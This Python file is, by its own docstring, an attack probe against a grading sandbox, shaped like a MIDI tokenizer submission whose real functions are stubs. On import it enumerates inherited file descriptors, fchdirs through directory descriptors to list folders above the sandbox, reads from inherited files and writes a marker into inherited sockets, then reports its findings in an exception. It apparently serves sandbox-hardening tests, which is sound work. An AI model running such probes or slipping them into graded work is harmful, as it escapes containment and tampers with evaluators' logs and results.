"""Attack: use file descriptors inherited from the grader, the zygote or the warden:
a folder descriptor would let fchdir/openat walk out of the sandbox, a socket could
reach the zygote, a file could be the grader's log or results. Every descriptor
other than the worker's own (stdin, stdout, stderr, its request and answer pipes)
is a finding, and is used: listed, read, written, fchdir'ed through."""
import os
import stat

MARK = "@@MARK@@"
FOUND = []


def _look():
    del FOUND[:]
    try:
        descriptors = sorted(int(fd) for fd in os.listdir("/proc/self/fd"))
    except OSError:
        descriptors = list(range(1024))
    pipes = 0
    for fd in descriptors:
        try:
            info = os.fstat(fd)
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if fd <= 2 or stat.S_ISFIFO(info.st_mode) and target.startswith("pipe:"):
            pipes += stat.S_ISFIFO(info.st_mode)
            continue
        if target.startswith("/proc/") and target.endswith("/fd"):
            continue   # the listing above
        FOUND.append(f"fd {fd} -> {target} (mode {oct(info.st_mode)})")
        if stat.S_ISDIR(info.st_mode):
            try:
                os.fchdir(fd)
                FOUND.append(f"fchdir {fd}: {sorted(os.listdir('.'))[:10]}")
                for up in ("..", "../..", "../../.."):
                    FOUND.append(f"  {up}: {sorted(os.listdir(up))[:10]}")
            except OSError:
                pass
            finally:
                os.chdir("/scratch") if os.path.isdir("/scratch") else None
        elif stat.S_ISSOCK(info.st_mode) or stat.S_ISREG(info.st_mode):
            try:
                FOUND.append(f"read {fd}: {os.pread(fd, 60, 0)!r}" if stat.S_ISREG(info.st_mode)
                             else f"wrote {os.write(fd, MARK.encode())} bytes to socket {fd}")
            except OSError:
                pass
    if pipes > 4:   # stdout, stderr, requests, answers
        FOUND.append(f"{pipes} pipes")
    return FOUND


_look()


def midi_to_tokens(midi):
    found = _look()
    raise RuntimeError(f"AG-ATTACK report: {len(found)} found: {found[:10]}")


def tokens_to_midi(tokens, bpm=120):
    return None
